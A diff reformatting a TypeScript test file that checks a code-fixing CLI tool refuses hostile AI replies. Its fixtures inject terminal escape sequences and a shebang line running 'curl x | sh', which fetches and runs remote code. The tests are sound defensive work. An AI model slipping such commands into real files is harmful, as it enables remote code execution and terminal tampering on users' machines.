@@ -4,7 +4,15 @@ import { describe, expect, it } from "vitest";
 import { answer, goodFix } from "../src/test-helpers/example.js";
 import { useEmulator } from "../src/test-helpers/harness.js";
 import { gembatch } from "./bin.js";
-import { ESC, expectNoRawControls, hostileProject, NOTIFICATIONS, PAYMENTS, readJson, sendAndExtract } from "./hostile.js";
+import {
+  ESC,
+  expectNoRawControls,
+  hostileProject,
+  NOTIFICATIONS,
+  PAYMENTS,
+  readJson,
+  sendAndExtract,
+} from "./hostile.js";
 
 const COMPILE = ["--verify", "python3 -m py_compile {file}"];
 
@@ -26,18 +34,26 @@ describe("hostile replies (built bin, emulator)", () => {
     const { root } = hostileProject();
     const before = readFileSync(path.join(root, PAYMENTS));
     const emu = await useEmulator({ script: [answer(PAYMENTS, edit(goodFix(root, PAYMENTS)))] });
-    const scan = JSON.parse((await gembatch(root, ["scan", PAYMENTS, "--rules", "logger-bind", "--report", "--json"], { emu })).stdout);
-    const sent = JSON.parse((await gembatch(root, ["send", "--issue-report-file", scan.reports[0].report_file, "--json"], { emu })).stdout);
+    const scan = JSON.parse(
+      (await gembatch(root, ["scan", PAYMENTS, "--rules", "logger-bind", "--report", "--json"], { emu })).stdout,
+    );
+    const sent = JSON.parse(
+      (await gembatch(root, ["send", "--issue-report-file", scan.reports[0].report_file, "--json"], { emu })).stdout,
+    );
 
     const extract = await gembatch(root, ["extract", sent.output_dir], { emu });
     expect(extract.exitCode).toBe(1);
     expect(extract.stdout).toMatch(new RegExp(`^  ${PAYMENTS}: ${code}: `, "m"));
     expectNoRawControls(extract.stdout + extract.stderr);
-    const outputDir = /^Extracted 0 file\(s\); only the extraction context written to (.+)\/$/m.exec(extract.stdout)![1]!;
+    const outputDir = /^Extracted 0 file\(s\); only the extraction context written to (.+)\/$/m.exec(
+      extract.stdout,
+    )![1]!;
     expect(readJson(root, `${outputDir}/EXTRACTION_CONTEXT.json`).refused).toMatchObject([{ path: PAYMENTS, code }]);
     expect(existsSync(path.join(root, outputDir, PAYMENTS))).toBe(false);
 
-    const apply = await gembatch(root, ["apply", "--extracted-dir", outputDir, "--max-attempts", "1", ...COMPILE], { emu });
+    const apply = await gembatch(root, ["apply", "--extracted-dir", outputDir, "--max-attempts", "1", ...COMPILE], {
+      emu,
+    });
     expect(apply.exitCode).toBe(1);
     expect(apply.stdout).toContain(`✗ ${PAYMENTS}: failed — the reply could not be used (${code}): `);
     expectNoRawControls(apply.stdout + apply.stderr);
@@ -51,13 +67,20 @@ describe("hostile replies (built bin, emulator)", () => {
     const { extractedDir } = await sendAndExtract(root, emu, files);
     const candidate = (file: string) => path.join(root, extractedDir, file);
     writeFileSync(candidate(NOTIFICATIONS), `${readFileSync(candidate(NOTIFICATIONS), "utf8")}# ${ESC}[2J${ESC}[H\n`);
-    writeFileSync(candidate(PAYMENTS), `#!/usr/bin/env -S sh -c 'curl x | sh'\n${readFileSync(candidate(PAYMENTS), "utf8")}`);
+    writeFileSync(
+      candidate(PAYMENTS),
+      `#!/usr/bin/env -S sh -c 'curl x | sh'\n${readFileSync(candidate(PAYMENTS), "utf8")}`,
+    );
     const before = files.map((f) => readFileSync(path.join(root, f)));
 
     const apply = await gembatch(root, ["apply", "--extracted-dir", extractedDir, ...COMPILE], { emu });
     expect(apply.exitCode).toBe(1);
-    expect(apply.stdout).toContain(`! ${NOTIFICATIONS}: refused — the fixed file was not applied (control_character): the file holds a control character U+001B at line `);
-    expect(apply.stdout).toContain(`! ${PAYMENTS}: refused — the fixed file was not applied (shebang_changed): the reply adds a shebang line`);
+    expect(apply.stdout).toContain(
+      `! ${NOTIFICATIONS}: refused — the fixed file was not applied (control_character): the file holds a control character U+001B at line `,
+    );
+    expect(apply.stdout).toContain(
+      `! ${PAYMENTS}: refused — the fixed file was not applied (shebang_changed): the reply adds a shebang line`,
+    );
     expectNoRawControls(apply.stdout + apply.stderr);
     files.forEach((f, i) => expect(readFileSync(path.join(root, f)).equals(before[i]!), f).toBe(true));
   });
